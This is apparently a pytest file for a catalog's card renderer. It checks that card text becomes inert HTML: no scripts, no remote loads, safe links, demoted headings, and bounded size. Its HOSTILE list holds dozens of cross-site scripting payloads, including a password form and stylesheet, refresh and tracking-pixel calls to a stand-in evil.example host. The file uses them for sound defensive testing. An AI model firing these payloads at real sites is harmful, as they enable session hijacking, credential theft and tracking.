"""A card is shown as text: nothing of it runs, and nothing of it is fetched."""

from __future__ import annotations

import re

import pytest

from governance.catalog.rendering import MOST_CHARACTERS, card_html, is_cut, metadata_rows, text_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![a"onerror="alert(1)](x "y\'onload=alert(1)")',
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<video autoplay src=https://evil.example/x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div hx-get='/sign-out/' hx-trigger=load>x</div>",
    "<div data-hx-post='/sign-out/' data-hx-trigger=load>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p id=messages class='flash tone-pass' data-line='1\" onclick=\"alert(1)'>x</p>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "`<img src=x onerror=alert(1)>`",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<a href='//evil.example/x' ping='https://evil.example'>x</a>",
    "<table background='https://evil.example/x'><tr><td>x</td></tr></table>",
    "<span class=card-image>Approved</span>",
]


# What the page puts around a table is its own.
REGION = '<div class="scroll" tabindex="0" role="region" aria-label="Table">'


def test_a_table_scrolls_in_a_region_that_the_keyboard_reaches() -> None:
    shown = text_html("| a | b |\n|---|---|\n| 1 | 2 |\n")

    assert shown.startswith(f"{REGION}<table")
    assert shown.rstrip().endswith("</table></div>")


@pytest.mark.parametrize("text", HOSTILE)
def test_fault_v41_nothing_in_a_card_runs_or_loads(text: str) -> None:
    shown = text_html(text).replace(REGION, "")

    for tag in re.findall(r"<\s*([a-zA-Z!/?][^\s>]*)", shown):
        assert re.fullmatch(
            r"/?(a|abbr|b|blockquote|br|code|dd|del|details|div|dl|dt|em|h[3-6]|hr|i|kbd|li|mark|ol|p|pre|q|s|samp|small"
            r"|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|u|ul|var)",
            tag,
        ), tag
    for attributes in re.findall(r"<[a-z][a-z0-9]*((?:\s+[^\s=>]+=\"[^\"]*\")+)", shown):
        for name, value in re.findall(r'([^\s=]+)="([^"]*)"', attributes):
            assert name in {"href", "rel", "id", "class"}, name
            assert name != "href" or value.startswith(("http://", "https://", "mailto:"))
            assert name != "id" or re.fullmatch(r"L\d+", value)
            assert name != "class" or value == "card-image"


def test_fault_v42_an_image_becomes_its_words_and_host() -> None:
    shown = text_html("![a tracker](https://evil.example/pixel.gif?u=1) <img src='http://other.example/x' alt='<b>'>")

    assert "<img" not in shown
    assert '<span class="card-image">Image: a tracker (evil.example)</span>' in shown
    assert '<span class="card-image">Image: &lt;b&gt; (other.example)</span>' in shown


def test_links_lead_out_without_telling_or_vouching() -> None:
    shown = text_html("[paper](https://example.org/a) [local](LICENSE) [part](#x) [mail](mailto:a@example.org)")

    assert 'href="https://example.org/a" rel="nofollow noopener noreferrer"' in shown
    assert "LICENSE" not in shown
    assert 'href="#x"' not in shown
    assert 'href="mailto:a@example.org"' in shown


def test_headings_stand_below_those_of_the_page() -> None:
    shown = text_html("# One\n\n## Two\n\n<h1>Raw</h1>\n\n###### Six")

    assert re.findall(r"<h(\d)", shown) == ["3", "4", "3", "6"]


def test_blocks_carry_the_line_of_the_file() -> None:
    raw = b"---\nlicense: mit\n---\n# Title\n\nText\n"

    shown = card_html(raw, body_offset=raw.index(b"# Title"))

    assert '<h3 id="L4">' in shown
    assert '<p id="L6">' in shown


def test_words_that_look_like_a_line_number_stay_words() -> None:
    assert 'data-line="3"' in text_html('`x data-line="3"`')


@pytest.mark.parametrize("raw", [b"\x00\x01\xff\xfe", b"\xed\xa0\x80", b"x" * 100, b"", b"\r\r\n\n"])
def test_bytes_that_are_no_text_are_shown_as_far_as_they_go(raw: bytes) -> None:
    assert "\x00" not in card_html(raw, body_offset=0)


def test_a_card_beyond_measure_is_cut() -> None:
    raw = b"word " * MOST_CHARACTERS

    shown = card_html(raw, body_offset=0)

    assert len(shown) < MOST_CHARACTERS * 1.1
    assert is_cut(len(raw), body_offset=0)
    assert not is_cut(100, body_offset=0)


@pytest.mark.parametrize("text", ["[" * 50_000, "*a " * 50_000, "> " * 20_000, "<div>" * 20_000, "`" * 50_000 + "a"])
def test_markdown_made_to_be_slow_is_shown(text: str) -> None:
    assert isinstance(text_html(text), str)


@pytest.mark.parametrize("element", ["div", "span", "blockquote", "b"])
def test_elements_nested_beyond_measure_are_shown_as_they_were_written(element: str) -> None:
    deep = text_html(f"<{element}>" * 101 + "<script>x</script>")
    flat = text_html(f"<{element}>x</{element}>\n\n" * 101)

    assert deep.startswith("<pre>&lt;")
    assert "<script" not in deep
    assert not flat.startswith("<pre>")


def test_items_and_paragraphs_that_nobody_closes_are_not_nested() -> None:
    assert "<li" in text_html("<ul>" + "<li>one<p>two" * 200)


def test_control_characters_of_a_card_reach_no_page() -> None:
    assert not {"\x07", "\x1b", "\x7f"} & set(text_html("a\x07b\x1b[31m <i>\x7f</i>\tc\n"))


def test_metadata_become_rows_with_bounded_values() -> None:
    rows = metadata_rows({"license": "mit", "tags": ["a", "b"], "x": "y" * 1000, "no": None, "deep": [{"a": 1}]})

    shown = {row["key"]: row for row in rows}
    assert shown["tags"]["values"] == ["a", "b"]
    assert len(shown["x"]["values"][0]) == 300
    assert shown["no"]["values"] == ["empty"]
    assert shown["deep"]["text"] == '[{"a": 1}]'
